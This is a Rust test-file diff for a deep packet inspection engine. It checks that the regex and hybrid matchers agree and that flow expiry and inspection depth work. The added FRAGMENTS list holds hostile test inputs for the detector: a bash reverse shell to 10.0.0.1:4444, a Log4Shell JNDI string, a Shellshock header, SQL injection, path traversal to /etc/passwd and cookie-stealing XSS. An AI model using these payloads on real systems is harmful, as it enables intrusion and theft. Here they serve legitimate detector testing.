@@ -360,6 +360,77 @@ fn bad_pattern_files_name_file_line_and_id() {
     assert!(e.starts_with("dpi.stream_window: "), "{e}");
 }
 
+/// Pieces of protocol and attack text that the shipped patterns look for, to build
+/// payloads that match many of them in random combinations.
+const FRAGMENTS: &[&[u8]] = &[
+    b"GET /",
+    b"POST /index.php?id=1",
+    b" HTTP/1.1\r\n",
+    b"HTTP/1.0 200 OK\r\n",
+    b"\r\nHost: www.youtube.com\r\n",
+    b"\r\nUser-Agent: Mozilla/5.0\r\n",
+    b"User-Agent: sqlmap/1.7",
+    b"Authorization: Basic dXNlcjpwYXNz",
+    b"SSH-2.0-OpenSSH_9.6\r\n",
+    b"\x16\x03\x01\x02\x00\x01\x00",
+    b"' or '1'='1",
+    b"UNION ALL SELECT ",
+    b"union/**/select(",
+    b"; DROP TABLE users",
+    b"sleep(5)",
+    b"${jndi:ldap://x}",
+    b"() { :; };",
+    b"bash -i >& /dev/tcp/10.0.0.1/4444",
+    b"/etc/passwd",
+    b"../../../",
+    b"<script>",
+    b"onerror=",
+    b"document.cookie",
+    b"NFX-DPI-TEST",
+    b"EICAR",
+    b"card 4111 1111 1111 1111 ",
+    b"AKIAABCDEFGHIJKLMNOP ",
+    b"220 mail ESMTP\r\n",
+    b"USER anonymous\r\n",
+    b"\xffSMB",
+    b"%2e%2e%2f%2e%2e%2f",
+    b"0123456789",
+    b"\r\n",
+    b" ",
+    b"x",
+];
+
+/// Scans `hay[start..]` with the `regex` and the `hybrid` engine built once from the
+/// shipped file; returns the ids each found.
+fn shipped_engines_scan(hay: &[u8], start: usize) -> [Vec<String>; 2] {
+    type Built = (Vec<PatternSpec>, Engine, Engine);
+    static ENGINES: std::sync::OnceLock<std::sync::Mutex<Built>> = std::sync::OnceLock::new();
+    let m = ENGINES.get_or_init(|| {
+        let specs = patterns::load(&shipped_path()).unwrap();
+        let re = Engine::build(&specs, EngineKind::Regex).unwrap();
+        let hy = Engine::build(&specs, EngineKind::Hybrid).unwrap();
+        std::sync::Mutex::new((specs, re, hy))
+    });
+    let mut g = m.lock().unwrap_or_else(|p| p.into_inner());
+    let (specs, re, hy) = &mut *g;
+    let run = |e: &mut Engine| {
+        let mut set = regex_automata::PatternSet::new(specs.len());
+        e.scan(hay, start..hay.len(), &mut set);
+        set.iter()
+            .map(|p| specs[p.as_usize()].id.clone())
+            .collect::<Vec<_>>()
+    };
+    [run(re), run(hy)]
+}
+
+#[test]
+fn engines_agree_on_every_fragment_together() {
+    let hay: Vec<u8> = FRAGMENTS.iter().flat_map(|f| f.iter().copied()).collect();
+    let [re, hy] = shipped_engines_scan(&hay, 0);
+    assert_eq!(re, hy);
+    assert!(re.len() >= 20, "{re:?}");
+}
+
 fn literal_subset() -> String {
     let specs = patterns::load(&shipped_path()).unwrap();
     specs
@@ -392,6 +463,18 @@ proptest! {
             found.push(set.iter().map(|p| p.as_usize()).collect::<Vec<_>>());
         }
         prop_assert!(found[0].contains(&(pick % specs.len())));
+        prop_assert_eq!(&found[0], &found[1]);
+    }
+
+    #[test]
+    fn hybrid_and_regex_engines_agree_on_the_shipped_patterns(
+        picks in proptest::collection::vec(0usize..FRAGMENTS.len(), 1..24),
+        noise in proptest::collection::vec(any::<u8>(), 0..8),
+        cut in 0usize..4,
+    ) {
+        let hay: Vec<u8> = picks.iter().flat_map(|&i| FRAGMENTS[i].iter().copied()).chain(noise).collect();
+        let start = cut.min(hay.len());
+        let found = shipped_engines_scan(&hay, start);
         prop_assert_eq!(&found[0], &found[1]);
     }
 
@@ -518,4 +601,76 @@ fn memory_of_default_configs() {
         e.stats(),
         crate::elephant::ElephantDetector::slot_bytes()
     );
+}
+
+#[test]
+fn expire_frees_idle_stream_tails_and_event_pairs() {
+    let cfg = DpiConfig {
+        idle_timeout_ms: 10,
+        ..DpiConfig::with_patterns("t")
+    };
+    let mut d = dpi_with(PATTERNS, cfg);
+    run(&mut d, &mut [tcp(50, 80, 1, "", b"NFX-DPI-TEST")], 0);
+    assert_eq!(
+        (
+            d.stats()["stream_flows"].as_u64(),
+            d.stats()["event_pairs"].as_u64()
+        ),
+        (Some(1), Some(1))
+    );
+    d.expire(5_000_000);
+    assert_eq!(d.stats()["stream_flows"], 1);
+    d.expire(20_000_000);
+    assert_eq!(
+        (
+            d.stats()["stream_flows"].as_u64(),
+            d.stats()["event_pairs"].as_u64()
+        ),
+        (Some(0), Some(0))
+    );
+    // After expiry the pair may report again.
+    assert_eq!(
+        run(
+            &mut d,
+            &mut [tcp(50, 80, 13, "", b"NFX-DPI-TEST")],
+            30_000_000
+        )
+        .len(),
+        1
+    );
+}
+
+#[test]
+fn flows_are_inspected_to_their_depth_only() {
+    let cfg = DpiConfig {
+        depth: 100,
+        ..DpiConfig::with_patterns("t.txt")
+    };
+    let mut d = dpi_with(PATTERNS, cfg);
+    let filler = [b'x'; 60];
+    // 60 + 60 bytes reach the 100-byte depth; the third packet of the flow is not scanned.
+    assert!(run(&mut d, &mut [udp(5, 6, &filler)], 1).is_empty());
+    assert!(run(&mut d, &mut [udp(5, 6, &filler)], 2).is_empty());
+    let mut late = [udp(5, 6, b"EVIL-PAYLOAD")];
+    assert!(run(&mut d, &mut late, 3).is_empty());
+    assert!(late[0].alive());
+    assert_eq!(d.stats()["packets_past_depth"], 1);
+    // Another flow is still inspected from its first byte.
+    let mut other = [udp(7, 6, b"EVIL-PAYLOAD")];
+    assert_eq!(run(&mut d, &mut other, 4).len(), 1);
+    assert_eq!(other[0].drop, Some(DropReason::DpiDrop));
+}
+
+#[test]
+fn depth_zero_inspects_everything() {
+    let cfg = DpiConfig {
+        depth: 0,
+        ..DpiConfig::with_patterns("t.txt")
+    };
+    let mut d = dpi_with(PATTERNS, cfg);
+    for i in 0..20 {
+        assert!(run(&mut d, &mut [udp(5, 6, &[b'y'; 1000])], i).is_empty());
+    }
+    assert_eq!(run(&mut d, &mut [udp(5, 6, b"NFX-DPI-TEST")], 30).len(), 1);
+    assert_eq!(d.stats()["packets_past_depth"], 0);
 }
